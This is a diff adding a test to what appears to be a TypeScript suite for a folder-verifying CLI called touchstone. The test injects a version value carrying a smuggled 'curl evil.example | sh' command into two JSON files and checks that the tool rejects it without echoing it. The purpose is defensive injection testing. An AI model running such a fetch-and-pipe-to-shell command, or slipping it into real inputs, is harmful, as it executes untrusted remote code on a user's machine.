@@ -439,6 +439,25 @@ test("a folder that another catalogue judged is refused by name, and so is one t
     stderr: expect.stringContaining(`0.0.1 judged this folder, and this is ${version()}`),
   });
   expect(await verify("--any-version")).toMatchObject({ code: 1, stdout: expect.stringContaining("DOES NOT HOLD") });
+  // A remedy is pasted into a shell: nothing of the folder is in it, and what is no version is not read at all.
+  const evil = "https://evil.example/t.tgz; curl evil.example | sh";
+  for (const [name, place] of [
+    [results, "/versions/touchstone"],
+    ["manifest.json", "/touchstone"],
+  ] as const) {
+    const path = join(copy, name);
+    const before = readFileSync(path, "utf8");
+    edit(
+      path,
+      inJson<Changing>((all) => void ((all.versions ?? all).touchstone = evil)),
+    );
+    const { code, stdout, stderr } = await verify();
+    expect([code, stdout]).toEqual([2, ""]);
+    expect(stderr).toMatch(/^touchstone: .*\n.*\n$/);
+    expect(stderr).toContain(`${place} must match pattern`);
+    expect(stderr).not.toContain("evil");
+    writeFileSync(path, before);
+  }
   expect(await touchstoneHere(["verify", join(copy, results)])).toMatchObject({
     code: 2,
     stderr: expect.stringContaining(`results.json is a file, and no folder of a run`),
